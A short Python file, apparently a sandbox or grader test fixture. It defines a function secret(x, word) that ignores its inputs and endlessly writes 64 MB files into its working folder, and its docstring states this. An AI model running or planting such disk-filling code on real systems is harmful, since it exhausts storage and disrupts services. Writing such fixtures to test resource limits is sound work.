# mypy: ignore-errors
"""Fills its scratch folder with large files."""
import itertools


def secret(x, word):
    data = bytes(1 << 24)
    for number in itertools.count():
        with open(f"{number}.bin", "wb") as file:
            for _ in range(4):
                file.write(data)
